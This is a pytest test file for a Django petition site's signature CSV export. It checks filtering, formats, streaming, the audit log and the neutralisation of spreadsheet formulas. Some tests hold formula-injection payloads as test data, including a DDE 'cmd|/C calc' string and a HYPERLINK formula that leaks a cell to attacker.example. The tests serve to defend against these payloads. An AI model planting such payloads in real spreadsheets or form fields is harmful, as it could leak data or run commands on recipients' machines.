"""export_signatures and the CSV behind it: what staff hand over to ministers.

Each test runs the export the way the site does on its database (PostgreSQL's COPY, or Python
on SQLite); test_both_paths_write_the_same_bytes holds the two to the same output."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from itertools import count
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import DataError, connection
from django.db.models.expressions import RawSQL
from django.utils import timezone, translation

from petition import export as exporting
from petition.export import CHUNK_BYTES, HEADER, SignatureExport
from petition.models import ExportRecord, Petition, Signature, Suppression

pytestmark = pytest.mark.django_db

BOM = "\ufeff"
numbers = count()


def make_signature(petition: Petition, *, confirmed: bool = True, **fields: object) -> Signature:
    signed_at = timezone.now() - timedelta(days=2)
    n = next(numbers)
    values: dict[str, object] = {
        "first_name": "Camille",
        "last_name": "Durand",
        "email": f"camille.durand.{n}@example.org",
        "country": "FR",
        "postal_code": "75011",
        "language": "fr",
        "created_at": signed_at,
        "confirmed_at": signed_at + timedelta(minutes=5) if confirmed else None,
        **fields,
    }
    return Signature.objects.create(petition=petition, **values)


def to_the_second(moment: datetime) -> str:
    """A time as the export writes it: UTC, ISO 8601, rounded to the nearest second."""
    return (moment + timedelta(microseconds=500_000)).replace(microsecond=0).isoformat()


def export(*args: str) -> str:
    out = io.StringIO()
    call_command("export_signatures", *args, stdout=out)
    return out.getvalue()


def parse(text: str, delimiter: str = ",") -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=delimiter))


def rows_of(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    header, *rows = parse(text, delimiter)
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_only_confirmed_signatures_of_the_petition_are_exported(petition):
    other = Petition.objects.create(slug="other", title="Other", introduction="Another text.")
    make_signature(petition, email="confirmed@example.org")
    make_signature(petition, email="pending@example.org", confirmed=False)
    make_signature(other, email="elsewhere@example.org")

    rows = rows_of(export(petition.slug))

    assert [row["email"] for row in rows] == ["confirmed@example.org"]


def test_a_header_then_one_row_per_signature_oldest_first(petition):
    first = make_signature(
        petition,
        first_name="Élodie",
        last_name="Lefèvre",
        email="elodie@example.org",
        postal_code="69003",
        wants_news=True,
    )
    second = make_signature(
        petition,
        first_name="Oliver",
        last_name="O'Brien",
        email="oliver@example.net",
        country="GB",
        postal_code="SW1A 1AA",
        language="en",
        unsubscribed_at=timezone.now(),
    )

    header, *rows = parse(export(petition.slug))

    assert tuple(header) == HEADER
    assert rows == [
        [
            "Élodie",
            "Lefèvre",
            "elodie@example.org",
            "FR",
            "69003",
            "fr",
            to_the_second(first.created_at),
            to_the_second(first.confirmed_at),
            "yes",
            "no",
            "online",
        ],
        [
            "Oliver",
            "O'Brien",
            "oliver@example.net",
            "GB",
            "SW1A 1AA",
            "en",
            to_the_second(second.created_at),
            to_the_second(second.confirmed_at),
            "no",
            "yes",
            "online",
        ],
    ]


def test_dates_are_iso_8601_with_their_offset(petition):
    signature = make_signature(petition)

    row = rows_of(export(petition.slug))[0]

    signed_at = datetime.fromisoformat(row["signed_at"])
    confirmed_at = datetime.fromisoformat(row["confirmed_at"])
    assert signed_at.utcoffset() is not None
    assert abs(signed_at - signature.created_at) < timedelta(seconds=1)
    assert abs(confirmed_at - signature.confirmed_at) < timedelta(seconds=1)


def test_an_empty_petition_gives_the_header_alone(petition):
    assert parse(export(petition.slug)) == [list(HEADER)]


def test_the_file_starts_with_a_utf8_byte_order_mark_for_excel(petition, tmp_path):
    make_signature(petition, first_name="Zoé")
    path = tmp_path / "signatures.csv"

    export(petition.slug, "--output", str(path))

    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert "Zoé".encode() in data


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_either_delimiter_splits_the_columns(petition, delimiter):
    make_signature(petition, first_name="Jean", last_name="Martin")

    text = export(petition.slug, "--delimiter", delimiter)

    header_line = text.removeprefix(BOM).splitlines()[0]
    assert header_line == delimiter.join(HEADER)
    row = rows_of(text, delimiter)[0]
    assert (row["first_name"], row["last_name"]) == ("Jean", "Martin")


def test_other_delimiters_are_refused(petition):
    with pytest.raises(CommandError, match="delimiter"):
        export(petition.slug, "--delimiter", "\t")
    with pytest.raises(ValueError, match="delimiter"):
        list(SignatureExport(Signature.objects.filter(petition=petition), delimiter="|"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("field", ["first_name", "last_name", "postal_code"])
def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(petition, start, field):
    payload = f"{start}SUM(A1:A9)"  # short enough for a postal code
    make_signature(petition, **{field: payload})

    row = rows_of(export(petition.slug))[0]

    assert row[field] == "'" + payload
    assert not row[field].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_link_that_would_leak_the_sheet_is_neutralised(petition):
    payload = '=HYPERLINK("https://attacker.example/?leak="&C2;"Click, please")'
    make_signature(petition, last_name=payload)

    assert rows_of(export(petition.slug))[0]["last_name"] == "'" + payload


def test_a_neutralised_email_address_is_still_recognisable(petition):
    make_signature(petition, email="=1+1@example.org")

    assert rows_of(export(petition.slug))[0]["email"] == "'=1+1@example.org"


def test_ordinary_names_are_left_as_they_are(petition):
    make_signature(petition, first_name="Jean-Pierre", last_name="D'Artagnan - Le Gall")

    row = rows_of(export(petition.slug))[0]

    assert (row["first_name"], row["last_name"]) == ("Jean-Pierre", "D'Artagnan - Le Gall")


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_commas_quotes_and_newlines_in_names_round_trip(petition, delimiter):
    first_name = 'Anne, "Nanou"; la Grande'
    last_name = "Dupont\nde la Tour\r\nFils"
    make_signature(petition, first_name=first_name, last_name=last_name)

    rows = rows_of(export(petition.slug, "--delimiter", delimiter), delimiter)

    assert len(rows) == 1
    assert (rows[0]["first_name"], rows[0]["last_name"]) == (first_name, last_name)


def test_unknown_slug_is_a_clear_error(petition):
    with pytest.raises(CommandError, match=r'No petition has the slug "nope".*' + petition.slug):
        export("nope")


def test_export_makes_one_query_however_many_rows(
    petition, django_assert_max_num_queries, monkeypatch
):
    signed_at = timezone.now() - timedelta(days=1)
    Signature.objects.bulk_create(
        Signature(
            petition=petition,
            first_name=f"Prénom {n}",
            last_name="Nom",
            email=f"signer.{n}@example.org",
            language="fr",
            postal_code="75011",
            created_at=signed_at,
            confirmed_at=signed_at,
        )
        for n in range(500)
    )
    # Small chunks, so that 500 rows come in many: the rows stream, they are not gathered.
    monkeypatch.setattr(exporting, "CHUNK_BYTES", 1000)
    stream = SignatureExport(Signature.objects.filter(petition=petition))

    with django_assert_max_num_queries(1):
        chunks = list(stream)

    assert len(rows_of(b"".join(chunks).decode())) == 500
    assert stream.rows == 500
    assert stream.complete
    data_chunks = chunks[1:]  # after the byte order mark and the header
    assert len(data_chunks) > 40
    assert all(len(chunk) < 1000 + 200 for chunk in data_chunks)
    assert all(chunk.endswith(b"\n") for chunk in data_chunks)  # whole rows only
    assert CHUNK_BYTES >= 64 * 1024  # and in production, few large chunks


def test_output_writes_the_file_and_says_how_many_rows(petition, tmp_path):
    for _ in range(3):
        make_signature(petition)
    make_signature(petition, confirmed=False)
    path = tmp_path / "export.csv"

    message = export(petition.slug, "--output", str(path))

    assert len(rows_of(path.read_text(encoding="utf-8"))) == 3
    assert "Wrote 3 signatures (confirmed)" in message
    assert str(path) in message


def test_standard_output_is_utf8_whatever_the_terminal_encoding(petition):
    make_signature(petition, first_name="Œdipe", last_name="Ångström")
    raw = io.BytesIO()
    latin1_terminal = io.TextIOWrapper(raw, encoding="latin-1", newline="")

    call_command("export_signatures", petition.slug, stdout=latin1_terminal)
    latin1_terminal.flush()

    row = rows_of(raw.getvalue().decode("utf-8"))[0]
    assert (row["first_name"], row["last_name"]) == ("Œdipe", "Ångström")


def test_the_command_makes_no_query_per_row(petition, tmp_path, django_assert_max_num_queries):
    for _ in range(20):
        make_signature(petition)

    # The petition, the audit record, the rows, and the audit record's count at the end.
    with django_assert_max_num_queries(4):
        export(petition.slug, "--output", str(tmp_path / "export.csv"))


def test_the_command_starts_without_loading_celery():
    """An export sends no task, so its process never imports Celery: a tenth of a second."""
    code = (
        "import sys, django; django.setup(); "
        "from django.core.management import load_command_class; "
        "load_command_class('petition', 'export_signatures'); "
        "print(sorted({name.split('.')[0] for name in sys.modules} & {'celery', 'kombu'}))"
    )
    started = subprocess.run(
        [sys.executable, "-c", code],
        cwd=Path(__file__).resolve().parents[1],
        capture_output=True,
        text=True,
        check=True,
    )
    assert started.stdout.strip() == "[]"


# What the two paths share, and the options of the command.


def tricky_signatures(petition: Petition) -> None:
    """Rows that exercise every rule of the format: formulas, quoting, empties, time zones."""
    paris_midnight = datetime(2026, 3, 1, 23, 30, 15, 999_999, tzinfo=UTC)  # 00:30 in Paris
    for start in ["=", "+", "-", "@", "\t", "\r"]:
        make_signature(petition, first_name=f"{start}cmd|' /C calc'!A0", postal_code=f"{start}1")
    make_signature(petition, first_name='Anne, "Nanou"; la Grande', last_name="Dupont\nde\r\nFils")
    make_signature(petition, first_name="Zoé", last_name="Ångström-Œdipe", postal_code="")
    make_signature(petition, first_name="'Quoted", last_name=" spaced ", country="BE")
    make_signature(petition, first_name="\\.", last_name="\\N", country="GB", language="en")
    make_signature(
        petition,
        first_name="Late",
        created_at=paris_midnight,
        confirmed_at=paris_midnight + timedelta(seconds=1),
        wants_news=True,
        unsubscribed_at=paris_midnight + timedelta(days=1),
    )


@pytest.mark.usefixtures("requires_postgresql")
@pytest.mark.parametrize("variant", ["full", "officials"])
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_both_paths_write_the_same_bytes(petition, variant, delimiter):
    tricky_signatures(petition)
    signatures = Signature.objects.filter(petition=petition)

    def written(*, use_copy: bool) -> bytes:
        stream = SignatureExport(
            signatures, variant=variant, delimiter=delimiter, use_copy=use_copy
        )
        return b"".join(stream)

    by_copy = written(use_copy=True)
    by_python = written(use_copy=False)

    assert by_copy == by_python
    assert len(rows_of(by_copy.decode(), delimiter)) == 11


@pytest.mark.parametrize("use_copy", [True, False])
def test_the_officials_variant_holds_no_contact_data(petition, use_copy, settings):
    if use_copy and connection.vendor != "postgresql":
        pytest.skip("COPY needs PostgreSQL")
    make_signature(
        petition,
        first_name="Camille",
        last_name="Durand",
        email="camille.durand@example.org",
        postal_code="75011",
    )
    make_signature(
        petition,
        first_name="Oliver",
        last_name="Smith",
        email="oliver.smith@example.net",
        country="GB",
        postal_code="SW1A 1AA",
        language="en",
    )
    make_signature(petition, first_name="Sans", last_name="Code", postal_code="")

    with translation.override("en"):
        text = b"".join(
            SignatureExport(
                Signature.objects.filter(petition=petition),
                variant="officials",
                use_copy=use_copy,
            )
        ).decode()

    header, *rows = parse(text)
    assert header == ["First name", "Last name", "Postal code or country", "Signed on", "Collected"]
    assert [row[:3] for row in rows] == [
        ["Camille", "Durand", "75011"],
        ["Oliver", "Smith", "United Kingdom"],
        ["Sans", "Code", "France"],
    ]
    assert all(len(row[3]) == 10 for row in rows)  # a date, no time
    assert {row[4] for row in rows} == {"online"}
    for secret in ["@", "example", "SW1A", "yes", "no"]:
        assert secret not in text.removeprefix(BOM).split("\n", 1)[1]


def test_the_officials_date_is_the_day_in_france(petition):
    # 23:30 UTC on 1 March is already 2 March in Paris.
    signed_at = datetime(2026, 3, 1, 23, 30, tzinfo=UTC)
    make_signature(petition, created_at=signed_at, confirmed_at=signed_at)

    row = parse(export(petition.slug, "--format", "officials"))[1]

    assert row[3] == "2026-03-02"


def test_status_chooses_which_signatures(petition):
    make_signature(petition, email="confirmed@example.org")
    make_signature(petition, email="pending@example.org", confirmed=False)
    make_signature(petition, email="gone@example.org", unsubscribed_at=timezone.now())
    make_signature(petition, email="bounced@example.org")
    Suppression.objects.create(email="BOUNCED@example.org", bounced_at=timezone.now())

    def emails(status: str) -> set[str]:
        return {row["email"] for row in rows_of(export(petition.slug, "--status", status))}

    assert emails("confirmed") == {
        "confirmed@example.org",
        "gone@example.org",
        "bounced@example.org",
    }
    assert emails("pending") == {"pending@example.org"}
    assert emails("unsubscribed") == {"gone@example.org"}
    assert emails("suppressed") == {"bounced@example.org"}
    assert len(emails("all")) == 4


def test_since_keeps_the_signatures_made_from_that_day(petition):
    for email, days in [("old@example.org", 9), ("new@example.org", 1)]:
        signed_at = timezone.now() - timedelta(days=days)
        make_signature(petition, email=email, created_at=signed_at, confirmed_at=signed_at)
    since = timezone.localdate() - timedelta(days=3)

    rows = rows_of(export(petition.slug, "--since", since.isoformat()))

    assert [row["email"] for row in rows] == ["new@example.org"]
    with pytest.raises(CommandError, match="--since"):
        export(petition.slug, "--since", "last week")


def test_the_command_writes_each_export_to_the_audit_log(petition, tmp_path):
    for _ in range(3):
        make_signature(petition)

    export(petition.slug, "--output", str(tmp_path / "a.csv"), "--delimiter", ";")
    export(petition.slug, "--status", "all", "--format", "officials")

    second, first = ExportRecord.objects.order_by("-pk")
    assert (first.rows, first.delimiter, first.variant) == (3, ";", "full")
    assert first.source == "command"
    assert first.petition == petition
    assert first.filters == "status=confirmed"
    assert first.username.endswith("(command line)")
    assert first.finished_at is not None
    assert (second.rows, second.variant, second.filters) == (3, "officials", "status=all")


def test_a_progress_bar_is_drawn_on_a_terminal(petition, tmp_path, monkeypatch):
    for _ in range(5):
        make_signature(petition)

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    terminal = Terminal()
    monkeypatch.setattr("sys.stderr", terminal)

    export(petition.slug, "--output", str(tmp_path / "out.csv"))

    assert "5 / 5 rows 100%" in terminal.getvalue()


@pytest.mark.usefixtures("requires_postgresql")
def test_an_error_during_the_copy_is_raised_not_taken_for_the_end(petition):
    for _ in range(3):
        make_signature(petition)
    # A filter that fails on the first row PostgreSQL reads, after the COPY has started.
    failing = Signature.objects.filter(pk=RawSQL("1 / (petition_signature.id - id)", []))

    with pytest.raises(DataError, match="division by zero"):
        b"".join(SignatureExport(failing, use_copy=True))
